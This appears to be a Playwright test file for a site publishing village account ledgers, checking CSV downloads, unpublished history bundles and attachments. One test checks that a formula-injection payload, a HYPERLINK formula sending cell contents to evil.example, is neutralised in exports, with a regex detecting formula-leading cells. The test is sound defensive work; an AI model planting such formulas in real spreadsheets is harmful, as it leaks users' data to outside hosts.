import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, inject } from 'vitest';
import type { Page } from 'playwright-core';
import { pages } from './county.ts';
import { filesOf } from './html.ts';
import { hostilePeriod, hostileVillage } from './hostile-tree.ts';
import { countyData, demoData } from './trees.ts';
import { it } from './visit.ts';

/** What the page's link to its table gives. */
async function downloaded(page: Page): Promise<string> {
	const [download] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('link', { name: '下载表格（CSV）' }).click(),
	]);
	return readFileSync(await download.path(), 'utf8');
}

function cellsOf(csv: string): Record<string, string>[] {
	return Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true })
		.data;
}

/** The rows of the page's ledger: voucher, summary, income, expense, counterparty. */
function rowsShown(page: Page): Promise<string[][]> {
	return page
		.locator('table')
		.filter({ has: page.locator('a.cite') })
		.locator('tbody tr')
		.evaluateAll((rows) =>
			rows.map((row) => {
				const text = (selector: string) =>
					row.querySelector(selector)?.firstChild?.nodeValue?.trim() ?? '';
				return [
					text('a.cite'),
					text('th'),
					text('.income'),
					text('.expense'),
					row.querySelector('td:nth-of-type(5)')?.firstChild?.textContent?.split(' · ')[0] ?? '',
				];
			}),
		);
}

const plainAmount = (amount: string) => amount.replaceAll(',', '');

describe('the table of a ledger', () => {
	it.for([
		['a month', pages.month],
		['a quarter', pages.quarter],
		['a month that nobody registered', pages.unregistered],
	] as const)(
		'of %s has the mark that Excel needs, and the page’s rows',
		async ([, below], { visit }) => {
			const page = await visit(inject('county').address + below);
			const csv = await downloaded(page);
			expect(csv.startsWith('\uFEFF')).toBe(true);
			const rows = cellsOf(csv).map((row) => [
				row['凭证号'],
				row['摘要'],
				row['收入（元）'],
				row['支出（元）'],
				row['对方'],
			]);
			expect(rows.length).toBeGreaterThan(5);
			const shown = await rowsShown(page);
			expect(shown.map((row) => row.map(plainAmount))).toEqual(rows);
		},
	);

	it('runs no formula in Excel or WPS, whatever a cell says', async ({ visit }) => {
		const page = await visit(
			`${inject('hostile').address}villages/${hostileVillage}/ledger/${hostilePeriod}/`,
		);
		const rows = cellsOf(await downloaded(page));
		expect(rows.length).toBeGreaterThan(400);
		const runs = rows
			.flatMap((row) => Object.values(row))
			.filter((cell) => /^[\s\uFEFF]*[=+@＝＋＠|]|^[\s\uFEFF]*[-－](?!\d+(\.\d+)?$)/.test(cell));
		expect(runs).toEqual([]);
		const summaries = new Set(rows.map((row) => row['摘要']));
		expect(summaries).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"看凭证")`);
		const shown = await rowsShown(page);
		expect(
			rows.map((row) => row['摘要']?.replace(/^'(?=[\s\uFEFF]*[=+\-@＝＋－＠|])/, '').trim()),
		).toEqual(shown.map(([, summary]) => summary));
	});
});

describe('the history that the data folder carries', () => {
	it('is not published', () => {
		expect(existsSync(path.join(demoData, 'history.bundle'))).toBe(true);
		const published = filesOf(inject('demo').folder);
		expect(published.filter((file) => file.endsWith('.bundle'))).toEqual([]);
	});
});

describe('attachments', () => {
	it('are the bytes that the office committed, and nothing that no row lists is published', () => {
		const { folder } = inject('county');
		const published = filesOf(path.join(folder, 'attachments'));
		expect(published.length).toBe(3);
		for (const file of published) {
			const [village = '', name = ''] = file.split('/');
			const committed = readFileSync(
				path.join(countyData, 'villages', village, 'attachments', name),
			);
			expect([
				file,
				readFileSync(path.join(folder, 'attachments', file)).equals(committed),
			]).toEqual([file, true]);
		}
	});

	it('can be downloaded from their page', async ({ visit }) => {
		const page = await visit(inject('county').address + pages.attached);
		const [download] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('link', { name: /^2024-juesuan\.csv/ }).click(),
		]);
		expect(download.suggestedFilename()).toBe('2024-juesuan.csv');
	});
});
